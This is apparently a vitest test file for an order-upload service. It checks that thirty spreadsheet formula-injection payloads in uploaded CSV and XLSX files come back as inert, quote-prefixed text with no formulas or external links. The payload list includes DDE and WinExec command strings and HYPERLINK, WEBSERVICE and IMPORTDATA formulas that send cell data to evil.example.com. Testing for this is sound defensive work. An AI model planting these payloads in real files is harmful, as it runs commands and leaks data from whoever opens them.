import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { expect, test } from 'vitest';
import { fromBufferPromise } from 'yauzl';
import * as z from 'zod';
import { findingHeaders, resultHeaders } from '../../functions/intake/result/result-headers.ts';
import { useLocalTarget } from '../admin/local-target.ts';
import { anUploadDesk } from './an-upload-desk.ts';
import { aLine, csvOf, table } from './sample-orders.ts';

const local = useLocalTarget();

/** What spreadsheet programs run, ask about or send away when a cell begins so. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example.com/?"&A1,"Invoice")',
  '=WEBSERVICE("https://evil.example.com/"&A1)',
  '=IMPORTXML("https://evil.example.com/","//a")',
  '=IMPORTDATA("https://evil.example.com/")',
  '=IMAGE("https://evil.example.com/x.png")',
  '=DDE("cmd","/C calc","x")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
  '=EXEC("calc")',
  '=CALL("kernel32","WinExec","JCJ","calc",0)',
  '=REGISTER.ID("kernel32","WinExec")',
  '=FILTERXML("<a/>","//a")',
  '=RTD("x","","y")',
  '=INFO("directory")',
  '=SUM(A1:A9)*9',
  '==1+1',
  '=-1+1',
  "=+cmd|'/C calc'!A0",
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-cmd|'/C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '=1+1";=1+1;"',
];

/** One order a payload, with the payload in every text of it, and a price that the result has to talk about. */
const lines = payloads.map((payload, index) =>
  aLine({
    orderReference: `F-${index}`,
    customerName: payload,
    contactName: payload,
    address: payload,
    itemName: payload,
    specification: payload,
    remarks: payload,
    paymentMethod: payload,
    unitPrice: payload,
  }),
);

const isLive = (text: string): boolean => /^[=+\-@\t\r＝＋－＠]/.test(text);

/** The XML of all sheets of a workbook, and the texts of its cells. */
const sheetsOf = async (bytes: Buffer) => {
  const zip = await fromBufferPromise(bytes);
  const parts: string[] = [];
  for await (const entry of zip.eachEntry())
    if (/sheet\d+\.xml(\.rels)?$|sharedStrings/.test(entry.fileName))
      parts.push(await text(await zip.openReadStreamPromise(entry)));
  const markup = parts.join('\n');
  const texts = [...markup.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(([, one = '']) =>
    one
      .replaceAll('&quot;', '"')
      .replaceAll('&apos;', "'")
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&amp;', '&'),
  );
  return { markup, texts };
};

const sentAs = async (name: string, bytes: Buffer) => {
  const desk = await anUploadDesk(local.target);
  const key = `inbox/${desk.partnerId}/${name}`;
  await desk.run(desk.drop(bytes, { key }));
  const upload = (await desk.uploadRows()).find(({ objectKey }) => objectKey === key);
  const keys = z.object({ xlsx: z.string(), csv: z.string().optional() }).parse(upload?.resultKeys);
  return {
    sheets: await sheetsOf(desk.objects.get(keys.xlsx) ?? Buffer.alloc(0)),
    csv: desk.objects.get(keys.csv ?? '')?.toString('utf8') ?? '',
  };
};

/** Formulas, and links to elsewhere, in whatever sheet. */
const live = /<f[\s>/]|<hyperlink|TargetMode="External"|ddeLink/;

test('thirty payloads are tried', () => {
  expect(new Set(payloads).size).toBe(30);
});

test('nothing in a delimited file that comes back is a formula or a link, and the sender’s texts stand behind a quote', async () => {
  const { sheets, csv } = await sentAs('formulas.csv', Buffer.from(csvOf(table(lines))));
  expect(sheets.markup).not.toMatch(live);
  expect(sheets.texts).toEqual(expect.arrayContaining(payloads));
  const records = parse(csv, { bom: true, relax_column_count: true });
  const [header = [], ...rows] = z.array(z.array(z.string())).parse(records);
  const first = header.indexOf(resultHeaders[0] ?? '');
  expect(first).toBeGreaterThan(0);
  expect(header.slice(first)).toEqual(expect.arrayContaining(findingHeaders));
  const ours = rows.flatMap((row) => row.slice(first));
  expect(ours.filter(isLive)).toEqual([]);
  expect(ours.filter((one) => one.startsWith("'"))).not.toEqual([]);
  const theirs = rows.flatMap((row) => row.slice(0, first));
  expect(theirs.filter(isLive)).toEqual([]);
  expect(theirs.map((one) => one.replace(/^'/, ''))).toEqual(table(lines).slice(1).flat());
});

test('payloads in a workbook come back as the texts that they were, and nothing of ours is live', async () => {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('订单');
  for (const row of table(lines)) sheet.addRow(row);
  const { sheets } = await sentAs('formulas.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
  expect(sheets.markup).not.toMatch(live);
  expect(sheets.texts).toEqual(expect.arrayContaining(payloads));
});
